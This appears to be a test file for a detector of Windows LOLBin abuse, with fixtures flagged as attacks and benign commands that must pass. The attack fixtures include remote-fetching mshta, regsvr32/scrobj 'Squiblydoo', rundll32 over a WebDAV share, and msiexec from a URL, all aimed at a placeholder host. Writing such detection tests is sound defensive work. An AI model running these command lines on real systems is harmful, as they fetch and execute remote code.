import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-lolbin.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  ['mshta', 'mshta.exe https://a.invalid/x.hta', 'remote'],
  ['regsvr32', 'regsvr32 /s /u /n /i:http://a.invalid/x.sct scrobj.dll', 'remote'],
  ['a share', 'rundll32 \\\\a.invalid@SSL\\x\\y.dll,Run', 'remote'],
  ['a package', 'msiexec /q /i https://a.invalid/x.msi', 'package'],
  ['a script in the line', 'mshta vbscript:close(CreateObject("WScript.Shell").Run("cmd /c dir"))', 'inline'],
  ['a file that anybody may have put there', 'rundll32.exe %TEMP%\\x.dll,Start', 'planted'],
  ['a program under another name', 'InstallUtil.exe /U C:\\Users\\Public\\x.exe', 'planted'],
  ['a scriptlet', 'regsvr32 /s C:\\Windows\\Temp\\x.sct', 'planted'],
  ['a file among the data of programs', 'rundll32 C:\\ProgramData\\x.dll,Run', 'planted'],
  ['a library of somewhere', 'rundll32 C:\\stuff\\x.dll,Run', 'dropped'],
  ['a package that was unpacked', 'msiexec /i %TEMP%\\setup\\x.msi', 'dropped'],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([
  ['msiexec /i C:\\setup\\app.msi'],
  ['regsvr32 /s oleaut32.dll'],
  ['rundll32 printui.dll,PrintUIEntry /?'],
  ['mshta'],
  ['control.exe ncpa.cpl'],
])('innocent: %s', (command) => {
  expect(titles(command)).toEqual([])
})
